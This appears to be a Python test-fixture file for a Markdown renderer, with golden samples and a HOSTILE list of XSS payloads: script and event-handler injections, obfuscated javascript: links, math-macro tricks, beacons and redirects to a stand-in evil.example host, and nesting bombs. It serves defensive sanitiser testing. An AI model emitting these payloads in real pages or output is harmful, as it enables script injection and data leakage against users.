@@ -1,0 +1,89 @@
+"""Markdown as models write it, and as nobody should; shared by the tests of the renderer."""
+
+from __future__ import annotations
+
+import random
+
+GOLDEN = {
+    "prose": "Hello **bold** and *soft*, `code`, ~~gone~~.\nSecond line.  \nThird line.\n\nNew paragraph.\n",
+    "headings": "# One\n\n## Two ##\n### Three\ntext\n\nSetext\n===\n\nOther\n---\n\ntail",
+    "lists": "1. a\n2. b\n   - c\n   - d\n\n     loose\n3. e\n\npara\n\n- x\n\n- y\n\n* z\n+ w\n",
+    "list then text": "- a\n- b\n\ntext right after\n- c\ntext\n",
+    "tasks": "- [x] done\n- [ ] open **bold**\n",
+    "fence": "Before\n\n```python\ndef f(x):\n    return x  # ``` not the end\n\n\nprint(f(1))\n```\nAfter\n",
+    "fences": "~~~\na\n```\nb\n~~~\n````md\n```js\n1\n```\n````\n   ```\n   indented\n  less\n   ```\n",
+    "open fence": "text\n\n```js\nlet a = 1;\n\nlet b",
+    "empty fence": "```\n```\n\n```python\n\n```\nend",
+    "fence in list": "1. First:\n\n   ```sh\n   ls -la\n   ```\n\n2. Second\n\n   ```\n   x\n   ```\n\ndone\n",
+    "table": "| a | b |\n|---|:-:|\n| 1 | **2** |\n| x<br>y | `p|q` |\n\nafter\n",
+    "table after text": "text\na | b\n--|--\n1 | 2\nnot a row\n\nend",
+    "quote": "> one\ntwo\n> - three\n>\n> ```\n> code\n> ```\n\n> again\n",
+    "rules": "a\n\n---\n\n***\nb\n___\n",
+    "indented": "para\n\n    code\n\n    more\n\ntext\n    lazy\n",
+    "html": "<div onclick=\"alert(1)\">\nraw\n</div>\n\ntext <b>bold</b> <br> end\n\n<!-- open\n\nstill -->\nafter\n",
+    "links": "See [here](https://example.org \"t\"), <https://auto.example>, https://bare.example and [ref][r].\n\n"
+    "![pic](https://example.org/p.png)\n\n[r]: https://example.org/r\n\nLater [r] again.\n",
+    "reference last": "Early [late] use.\n\nMore.\n\n[late]: https://late.example\n",
+    "entities": "&lt;script&gt; &amp; &copy; &#65; &#x42; &nope; AT&T \\* \\_ &mdash;\n",
+    "math": "Inline $a_1 * b_1$ and \\(x^2\\), costs $5 and $6.\n\n$$\n\\sum_{i=1}^n i\n$$\n\n\\[\nE = mc^2\n\\]\n\ntext\n$$x$$\nmore\n",
+    "broken math": "$$\nnot closed\n- item\n\npara $$x$$ tail\n\n$$\na\n$$ tail\n\n\\[ never\n\nend $",
+    "crlf": "a\r\n\r\n- b\r\n- c\r\n\r\n```\r\nx\r\n```\r\nd\r",
+    "unicode": "Grüße 👩‍👩‍👧 **日本語** `код`\n\n1. שלום\n2. مرحبا\n",
+    "long line": "short\n\n" + "word *soft* \\_ " * 1500 + "\n\nafter **bold**\n",
+    "ambiguous ends": "a\n\n-\n\n1.\n\n#\n\n```",
+}
+
+HOSTILE = (
+    "<script>window.pwned = 1</script>",
+    "<img src=x onerror='window.pwned = 1'>",
+    "text <svg/onload=window.pwned=1> text",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "[x](javascript:window.pwned=1)",
+    "[x](JaVaScRiPt:window.pwned=1)",
+    "[x](java&#x0A;script:window.pwned=1)",
+    "[x](&#106;avascript:window.pwned=1)",
+    "[x]( javascript:window.pwned=1)",
+    "[x](data:text/html,<script>parent.pwned=1</script>)",
+    "[x](vbscript:window.pwned=1)",
+    "[x](//evil.example/path)",
+    "<javascript:window.pwned=1>",
+    "![x](https://evil.example/beacon?secret)",
+    "![x](javascript:window.pwned=1)",
+    "![x][r]\n\n[r]: https://evil.example/beacon",
+    "[r]\n\n[r]: javascript:window.pwned=1",
+    "```html\n<script>window.pwned = 1</script>\n```",
+    "```<img src=x onerror=window.pwned=1>\nx\n```",
+    "`<img src=x onerror=window.pwned=1>`",
+    "| <img src=x onerror=window.pwned=1> |\n|---|\n| [a](javascript:window.pwned=1) |",
+    "$\\href{javascript:window.pwned=1}{x}$ and $\\includegraphics{https://evil.example/p}$",
+    "$$\\html@mathml{<img src=x onerror=window.pwned=1>}{x}$$ $\\htmlData{a=b}{x}$ $\\url{javascript:window.pwned=1}$",
+    "<style>body { background: url(https://evil.example/css) }</style>",
+    "<link rel=stylesheet href=https://evil.example/css><meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<form action=https://evil.example><button>Vote</button></form>",
+    "<a href='javascript:window.pwned=1'>x</a>",
+    ">" * 4000 + " deep",
+    "[" * 4000 + "x" + "](y)" * 4000,
+    "- " * 2000 + "x",
+    "*_" * 5000,
+    "\\" * 40_000,
+)
+
+
+def random_document(seed: int) -> str:
+    """A mixture of the golden documents' lines, which meets far more corners than whole documents do."""
+    rng = random.Random(seed)
+    lines = [line for name, text in GOLDEN.items() if name != "long line" for line in text.split("\n")]
+    return "\n".join(rng.choice(lines) for _ in range(rng.randint(2, 25)))
+
+
+def chunks(text: str, seed: int, widths: tuple[int, ...] = (1, 3, 9, 40, 400)) -> list[str]:
+    """``text`` cut at random places, into pieces no longer than one of ``widths``."""
+    rng = random.Random(seed)
+    widest = rng.choice(widths)
+    pieces = []
+    at = 0
+    while at < len(text):
+        size = rng.randint(1, widest)
+        pieces.append(text[at : at + size])
+        at += size
+    return pieces
